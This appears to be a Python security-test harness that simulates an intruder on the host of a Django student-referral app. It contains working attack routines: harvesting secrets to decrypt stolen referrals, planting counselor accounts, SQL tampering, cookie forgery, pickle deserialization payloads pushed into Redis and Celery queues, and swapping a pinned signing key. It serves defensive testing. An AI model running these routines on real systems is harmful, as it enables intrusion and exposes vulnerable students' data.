"""Code of an attacker that runs on the web host, inside the program, with all that it has.

Run by the program's own shell there: its environment, its key files, its SECRET_KEY, its database
user. Each act returns what it reached; nothing it tries is kept from it by manners.
"""

import base64
import binascii
import hashlib
import hmac
import json
import os
import pickle
import secrets
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from uuid import UUID

_PURPOSES = ("", "tag|student", "tag|supporter", "receipt", "session", "draft", "cache", "row")


# -- opening what was sent ------------------------------------------------------------------------


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for inner in value.values():
            yield from _strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _strings(inner)
    elif isinstance(value, str):
        yield value


def _secrets() -> set[bytes]:
    """Return everything on this host that might be a key, and what might be made of it."""
    from django.conf import settings

    from peersupport.core.crypto import derive

    raw: set[bytes] = {settings.SECRET_KEY.encode(), *(v.encode() for v in os.environ.values())}
    for path in Path(settings.KEYS_DIR).iterdir():
        if path.is_file():
            content = path.read_bytes()
            raw.add(content)
            with suppress(ValueError):
                raw |= {one.encode() for one in _strings(json.loads(content))}
    for one in list(raw):
        for decode in (base64.b64decode, base64.urlsafe_b64decode, binascii.unhexlify):
            with suppress(ValueError):
                raw.add(decode(one))
    made = {one[:32] for one in raw if len(one) >= 32}
    made |= {hashlib.sha256(one).digest() for one in raw}
    made |= {derive(one, purpose) for one in raw if len(one) == 32 for purpose in _PURPOSES}
    return {one for one in made if len(one) == 32}


def _opens(key: bytes, stolen: list[dict[str, Any]]) -> set[str]:
    """Return which stolen envelopes one key opens: as the data key, or as that of a recipient."""
    from nacl.exceptions import CryptoError
    from nacl.public import PrivateKey, SealedBox

    from peersupport.core.crypto import CannotOpen, open_box

    found, box = set(), SealedBox(PrivateKey(key))
    for one in stolen:
        tried = [key]
        for wrap in one["wraps"]:
            with suppress(CryptoError):
                tried.append(box.decrypt(bytes.fromhex(wrap))[:32])
        for each in tried:
            with suppress(CannotOpen):
                context = f"referrals.Sealed|{UUID(one['id']).hex}|1"
                open_box(each, bytes.fromhex(one["blob"]), context=context)
                found.add(one["id"])
    return found


def open_all(stolen: list[dict[str, Any]], control: str) -> dict[str, Any]:
    """Try every key there is on every envelope, though this host may not even read them."""
    keys = _secrets()
    opened = {each for key in keys for each in _opens(key, stolen)}
    return {
        "keys": len(keys),
        "opened": sorted(opened),
        "control": len(_opens(bytes.fromhex(control), stolen)),
    }


# -- making oneself a counselor -------------------------------------------------------------------


def _try(does: Any) -> str:
    """Return why PostgreSQL or the program did not do something; empty if it did."""
    from django.db import DatabaseError, transaction

    from peersupport.core.keyfiles import KeysUnusable

    try:
        with transaction.atomic():
            does()
    except (DatabaseError, KeysUnusable) as error:
        return f"{type(error).__name__}: {str(error).splitlines()[0]}"
    return ""


def plants(lead: str, case: str) -> dict[str, str]:
    """Plant whatever would make somebody a counselor, by the program's own models."""
    from peersupport.core import clock, ids
    from referrals import models
    from referrals.services import counselors

    now, card = clock.now(), UUID(lead)
    day = now.date()
    session = {"key": b"k" * 32, "counselor_id": card, "epoch": ids.new_id(), "seal": b"s" * 32}
    rows: dict[str, Any] = {
        "a counselor": models.Counselor(
            card_id=card, email="me@school.example", role="lead", state="active",
            confirmed_by="me", confirmed_on=day, seal=b"s" * 32,
        ),
        "a card": models.Card(name="Ghost"),
        "a passkey": models.Passkey(
            counselor_id=card, name="mine", credential=b"c", added_on=day, is_confirmed=True,
            seal=b"s" * 32,
        ),
        "a recovery code": models.RecoveryCode(counselor_id=card, mark=b"m" * 32),
        "a session": models.CareSession(**session, begun_at=now, used_at=now, proved_at=now),
        "a published key": models.PublishedKey(
            epoch=99, public=b"p" * 32, signature=b"s" * 64, since=day
        ),
        "an opening": models.Opening(at=now, referral_id=UUID(case), name="Dee", what="case"),
        "an end to who is left out": models.Exclusion(
            referral_id=UUID(case), counselor_id=card, why="student"
        ),
        "hours in which somebody reads": models.Reading(card_id=card, weekday=0),
    }  # fmt: skip
    found = {
        name: _try(lambda row=row: type(row).objects.bulk_create([row]))
        for name, row in rows.items()
    }

    def first() -> None:
        counselors._ask("Me", "me@school.example", "lead", confirmed_by="me", now=now)  # type: ignore[arg-type]

    found["the first lead, by the program's own code"] = _try(first)
    return found


def changes(case: str, other: str) -> dict[str, str]:
    """Put other content in the place of what was sent, take it away, or wrap it for oneself."""
    from django.db import connection

    from referrals import models

    def sql(statement: str, *values: Any) -> str:
        def run() -> None:
            with connection.cursor() as cursor:
                cursor.execute(statement, values)

        return _try(run)

    mine = models.Sealed(referral_id=UUID(case), blob=b"b" * 8192)
    return {
        "another blob": sql("UPDATE referrals_sealed SET blob = 'x' WHERE referral_id = %s", case),
        "a second blob": _try(lambda: models.Sealed.objects.bulk_create([mine])),
        "away with it": sql("DELETE FROM referrals_sealed WHERE referral_id = %s", case),
        "away with its keys": sql("DELETE FROM referrals_wrap WHERE referral_id = %s", case),
        "another's blob": sql(
            "UPDATE referrals_sealed SET referral_id = %s WHERE referral_id = %s", case, other
        ),
        "to be nobody's": sql("UPDATE referrals_referral SET tag = NULL WHERE id = %s", case),
        "to me": sql("UPDATE referrals_referral SET state = 'received' WHERE id = %s", case),
    }


def forged(case: str, port: int, sessions: list[str], real: str) -> dict[str, Any]:
    """Use everything that might pass for a cookie of the care side at its own door."""
    from django.conf import settings
    from django.core import signing

    from peersupport.core.crypto import keyring
    from tests.confidence.world import Browser, Host

    care = Host("care", Path("/nowhere"), {}, port)

    def text(raw: bytes) -> str:
        return base64.urlsafe_b64encode(raw).decode().rstrip("=")[:43]

    tries = {text(key) for key in _secrets()} | {secrets.token_urlsafe(32) for _ in range(20)}
    tries |= {text(keyring().mac(one, purpose="care-session")) for one in (b"", b"dee", b"1")}
    tries |= {text(hmac.digest(settings.SECRET_KEY.encode(), case.encode(), "sha256"))}
    tries |= {signing.dumps({"counselor": case}), *sessions, "", "x" * 43}

    def reaches(cookie: str) -> list[int]:
        browser = Browser(care, {"care": cookie, "session": cookie})
        pages = browser.get("/care/"), browser.post(f"/care/case/{case}/open/")
        return [page.status for page in pages if not page.location.startswith("/care/sign-in/")]

    return {
        "tried": len(tries),
        "in": [cookie[:6] for cookie in tries if reaches(cookie)],
        "control": reaches(real),
    }


# -- the broker, which both sides share -----------------------------------------------------------


class _Bomb:
    """What runs code in whoever unpickles it."""

    def __init__(self, place: str) -> None:
        self.place = place

    def __reduce__(self) -> Any:
        return open, (self.place, "w")


def bombs(place: str) -> dict[str, Any]:
    """Put code that runs when it is unpickled under every key of Redis, and into every queue."""
    import redis
    from django.conf import settings

    made = pickle.dumps(_Bomb(place))
    store = redis.Redis.from_url(settings.REDIS_URL)
    keys = [key for key in store.scan_iter() if store.type(key) == b"string"]
    for key in keys:
        store.set(key, made)
    body = base64.b64encode(made).decode()
    message = {
        "body": body,
        "content-encoding": "binary",
        "content-type": "application/x-python-serialize",
        "headers": {"task": "referrals.tasks.care_tick", "id": "1", "lang": "py"},
        "properties": {
            "body_encoding": "base64",
            "delivery_tag": "1",
            "delivery_info": {"exchange": "", "routing_key": "care"},
        },
    }
    for queue in ("care", "celery"):
        store.lpush(queue, json.dumps(message))
    pickle.loads(made).close()  # the control: it goes off here
    works = Path(place).exists()
    Path(place).unlink()
    return {"keys": len(keys), "control": works}


# -- from now on ----------------------------------------------------------------------------------


def from_now_on(stolen: list[dict[str, Any]]) -> dict[str, Any]:
    """Let this host seal to a key of the attacker's: what that opens, and what it does not."""
    from django.conf import settings
    from django.db import transaction
    from nacl.public import PrivateKey
    from nacl.signing import SigningKey

    from peersupport.core import clock, ids
    from referrals import envelope, models, recipients
    from referrals.content import Content, from_bytes
    from referrals.published import signed
    from referrals.services import sending

    now, own = clock.now(), PrivateKey.generate()
    pinned = Path(settings.KEYS_DIR) / "care-root.pub"
    root, before = SigningKey.generate(), pinned.read_bytes()
    row = signed(root, epoch=98, public=bytes(own.public_key), since=now.date())
    planted = _try(lambda: models.PublishedKey.objects.bulk_create([row]))
    pinned.write_bytes(base64.b64encode(bytes(root.verify_key)))
    ready = recipients.is_ready()
    pinned.write_bytes(before)

    to, made, seal = envelope.recipient_of(bytes(own)), [], envelope.seal

    def kept(*given: Any, **more: Any) -> envelope.Envelope:
        made.append(seal(*given, **more))
        return made[-1]

    setattr(sending, "recipients", lambda: [to])  # noqa: B010 - as an intruder does
    envelope.seal = kept
    new = models.Referral(
        kind="student", urgency="soon", request_key=ids.new_id(),
        received_at=now.replace(minute=0, second=0, microsecond=0), receipt=os.urandom(32),
    )  # fmt: skip
    with transaction.atomic():
        sending.insert(new, Content(words="typed after the break-in"))
    plain = envelope.open_envelope(made[0], referral=new.pk, secrets={to.name: bytes(own)})
    return {
        "planted": planted,
        "ready with another pin": ready,
        "new": int(from_bytes(plain).words == "typed after the break-in"),
        "past": sorted(_opens(bytes(own), stolen)),
        "code": new.code,
        "id": str(new.pk),
    }


def in_the_way(case: str) -> dict[str, Any]:
    """Do harm without reading: take back in a student's name."""
    from peersupport.core import clock
    from referrals import models

    now = clock.now().replace(minute=0, second=0, microsecond=0)
    row = models.Withdrawal(referral_id=UUID(case), at=now)
    return {"taken back": _try(lambda: models.Withdrawal.objects.bulk_create([row]))}


def linked(people: dict[str, str]) -> dict[str, Any]:
    """Say, by the tag key and the list of accounts, whose the open requests are."""
    from peersupport.core import clock
    from referrals import tagkey
    from referrals.models import Referral

    now = clock.now()
    found = {}
    for key, number in people.items():
        tags = tagkey.tags_for(UUID(key), now)
        for one in Referral.objects.filter(tag__in=tags).values_list("pk", flat=True):
            found[str(one)] = number
    return found


def everything(told: dict[str, Any]) -> dict[str, Any]:
    """Try it all, in an order in which nothing spoils what comes after."""
    stolen = told["stolen"]
    return {
        "open": open_all(stolen, told["control"]),
        "plants": plants(told["lead"], told["case"]),
        "changes": changes(told["case"], told["other"]),
        "forged": forged(told["case"], told["port"], told["sessions"], told["real"]),
        "linked": linked(told["people"]),
        "bombs": bombs(told["place"]),
        "from now on": from_now_on(stolen),
        "in the way": in_the_way(told["waiting"]),
    }
